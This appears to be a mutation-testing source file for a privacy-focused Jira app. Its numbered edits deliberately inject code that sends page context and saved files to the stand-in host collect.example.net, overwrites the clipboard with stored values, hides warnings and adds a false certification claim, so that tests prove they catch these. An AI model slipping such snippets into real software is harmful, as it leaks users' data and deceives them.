/** Edits by which pages send, store, link to, show or say something undeclared. */
import type { Mutation } from '../../mutation';
import { edit } from './numbered';

const DOORS = 'test/static/doors';
const MAIN = 'static/privacy/start/main.tsx';
const SAVE = 'static/privacy/ui/save-file.ts';
const FOOTER = 'static/privacy/ui/page-footer.tsx';
const PROOF_MARK = 'static/privacy/proof/proof-mark.tsx';
const BRIDGE = 'static/privacy/start/bridge.ts';
const saving = { test: `${DOORS}/save-file.test.ts` } as const;
const shown = { test: 'test/static/every-word.test.tsx' } as const;

export const pageEdits: readonly Mutation[] = [
  edit('33', 'seal', 'the whole context of the page written into its address', {
    file: MAIN,
    from: '  const texts = openingTexts(context);',
    to: '  history.rename(`/overview?${JSON.stringify(context)}`);\n  const texts = openingTexts(context);',
  }),
  edit(
    '34',
    { test: `${DOORS}/bridge.test.ts` },
    'what is pasted into the review sent to a function',
    {
      file: BRIDGE,
      add: "\ntype Drafts = { overview: (draft: string) => { ok: true; value: Overview } };\nconst invokeDraft = makeInvoke<Drafts>();\nexport const keepDraft = (draft: string): unknown => settle(invokeDraft('overview', draft));\n",
    },
    {
      file: 'static/privacy/review/input/use-inspection.ts',
      from: '    setGiven(typed(text));\n  }, []);',
      to: '    setGiven(typed(text));\n    keepDraft(text);\n  }, []);',
    },
    {
      file: 'static/privacy/review/input/use-inspection.ts',
      from: "import { after } from '../../ui/timer';",
      to: "import { after } from '../../ui/timer';\nimport { keepDraft } from '../../start/bridge';",
    },
  ),
  edit(
    '35',
    'seal',
    'the clipboard overwritten with the stored values as the page opens',
    {
      file: 'static/privacy/admin/stored/stored-values.tsx',
      from: '  const time = (value',
      to: "  void copyText(null as never, null, Object.values(record.values).join(' '));\n  const time = (value",
    },
    {
      file: 'static/privacy/admin/stored/stored-values.tsx',
      from: 'import { Facts }',
      to: "import { copyText } from '../../ui/copy-text';\nimport { Facts }",
    },
  ),
  edit('36', saving, 'a saved file that goes to an outside address, set by link[‘href’]', {
    file: SAVE,
    from: '  link.href = address;',
    to: "  link['href'] = `https://collect.example.net/?${text}`;",
  }),
  edit(
    '37',
    saving,
    'a saved file that goes to an outside address, set by a loop',
    { file: SAVE, from: '  link.href = address;\n', to: '' },
    {
      file: SAVE,
      from: '  link.click();',
      to: '  for (link.href of [address, `https://collect.example.net/?${text}`]) link.click();',
    },
  ),
  edit(
    '38',
    saving,
    'a saved file that goes to an outside address, made by something else called URL',
    {
      file: SAVE,
      from: 'const TYPES',
      to: 'const URL = {\n  createObjectURL: (given: string): string => `https://collect.example.net/?${given}`,\n  revokeObjectURL: (_: string): void => undefined,\n};\n\nconst TYPES',
    },
    { file: SAVE, from: 'new Blob([text], { type })', to: 'text + type' },
  ),
  edit(
    '40',
    'subset',
    'a link made at run time, through a list that is also a list of any texts',
    {
      file: 'static/privacy/proof/links.ts',
      add: '\nconst opened: Link[] = [LINKS[0]];\n\nexport const open = (address: string): Link => {\n  const any: string[] = opened;\n  any[0] = address;\n  return opened[0] ?? LINKS[0];\n};\n',
    },
    {
      file: PROOF_MARK,
      from: '<a href={link}',
      to: '<a href={open(`https://collect.example.net/?${address}`)}',
    },
    { file: PROOF_MARK, from: 'import { linkTo }', to: 'import { linkTo, open }' },
  ),
  edit('67', shown, 'a field for a password', {
    file: FOOTER,
    from: '      <p>{t(',
    to: '      <input type="password" />\n      <p>{t(',
  }),
  edit(
    '71',
    { test: 'test/static/admin/overview/verdict.test.ts' },
    'a record that is not three values called fine',
    {
      file: 'static/privacy/admin/overview/verdict.ts',
      from: "  if (record.state === 'malformed')\n    return says('warning', t('verdict.malformed'), t('record.malformed', buttons));\n",
      to: '',
    },
  ),
  edit(
    '75',
    'subset',
    'another String that gives an element a type of its own',
    {
      file: 'static/privacy/ui/confirm-dialog.tsx',
      from: 'export interface Confirmation',
      to: `interface Bare {
  readonly parentNode: Bare;
  readonly location: { readonly assign: (to: string) => void };
}
const String = (given: object | null, like: Bare): Bare => {
  const box: { value: Bare } = { value: like };
  const loose: { value: object | null } = box;
  loose.value = given;
  return box.value;
};

export interface Confirmation`,
    },
    {
      file: 'static/privacy/ui/confirm-dialog.tsx',
      from: '    dialog.show();\n',
      to: "    String(dialog, dialog as never).parentNode.location.assign('https://collect.example.net/');\n",
    },
  ),
  edit('76', 'doors', 'the state of Jira’s history keeps something in the browser', {
    file: 'static/privacy/start/history.ts',
    from: '    history.replace(declared(path));',
    to: '    history.replace(declared(path), { path, seen: new Date().toISOString() });',
  }),
  edit('77', shown, 'the stored values in the address of the page', {
    file: 'static/privacy/admin/admin-page.tsx',
    from: '  if (page.isDenied)',
    to: "  if (overview.loaded.state === 'ready' && 'values' in overview.loaded.value.record)\n    history.rename(`/${tab}/${overview.loaded.value.record.values.clientKey}`);\n  if (page.isDenied)",
  }),
  edit('78', 'seal', 'an element under a type of its own moves the frame to an outside address', {
    file: 'static/privacy/ui/use-element.ts',
    from: '    shown?.focus({ preventScroll: true });\n',
    to: '    let at = shown as unknown as { parentNode: never; location?: { assign: (to: string) => void } } | null;\n    while (at !== null && at.location === undefined) at = at.parentNode;\n    at?.location?.assign(`#${shown?.lang}`);\n    shown?.focus({ preventScroll: true });\n',
  }),
  edit(
    '79',
    'imports',
    'a flag of the bridge with the site in it',
    {
      file: 'static/privacy/ui/copy-text.ts',
      from: '    return made !== null;',
      to: "    showFlag({ id: 'x', title: made ?? '' });\n    return made !== null;",
    },
    {
      file: 'static/privacy/ui/copy-text.ts',
      from: '/** The name of a button',
      to: "import { showFlag } from '@forge/bridge';\n/** The name of a button",
    },
  ),
  edit(
    '80',
    'imports',
    'a text handed to Jira as a page opens',
    {
      file: MAIN,
      from: '  const texts = openingTexts(context);',
      to: '  await view.submit({ site: context.siteUrl });\n  const texts = openingTexts(context);',
    },
    {
      file: MAIN,
      from: "import './render-hook';",
      to: "import './render-hook';\nimport { view } from '@forge/bridge';",
    },
  ),
  edit(
    '95',
    { test: 'test/static/admin/statement/statement-tab.test.tsx' },
    'an answer that the page leaves out',
    {
      file: 'static/privacy/admin/statement/statement-tab.tsx',
      from: 'find(all, wanted);',
      to: "find(all, wanted).filter(({ answer }) => answer.id !== 'makers-view');",
    },
  ),
  edit(
    '96',
    { test: 'test/static/proof/proof-mark.test.tsx' },
    'the mark for what is enforced on what is only documented',
    {
      file: PROOF_MARK,
      from: '<ProofNote proof={proof}',
      to: "<ProofNote proof={proof === 'documented' ? 'platform' : proof}",
    },
  ),
  edit('101', shown, 'a sentence typed into a component, without a key, a proof or a language', {
    file: FOOTER,
    from: '      <p>{t(',
    to: '      <p>Certified by Atlassian under ISO 27001. Nothing was stored in the last 5 years.</p>\n      <p>{t(',
  }),
];
